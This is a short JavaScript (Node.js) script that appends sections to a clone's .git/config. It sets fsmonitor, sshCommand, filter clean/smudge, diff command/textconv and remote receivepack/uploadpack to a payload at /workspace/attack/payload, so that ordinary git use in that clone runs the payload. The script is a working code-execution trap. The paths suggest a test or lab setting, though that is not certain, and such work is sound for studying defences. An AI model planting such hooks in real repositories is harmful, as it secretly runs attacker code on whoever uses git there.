// Names programs in the clone's own git configuration, so that whoever uses git there starts them.
import { appendFileSync } from "node:fs";

const payload = "/workspace/attack/payload";
appendFileSync(
  ".git/config",
  `[core]\n\tfsmonitor = ${payload}\n\tsshCommand = ${payload}\n` +
    `[filter "trap"]\n\tclean = ${payload}\n\tsmudge = ${payload}\n` +
    `[diff "trap"]\n\tcommand = ${payload}\n\ttextconv = ${payload}\n` +
    `[remote "origin"]\n\treceivepack = ${payload}\n\tuploadpack = ${payload}\n`,
);
console.log(JSON.stringify({ written: true }));
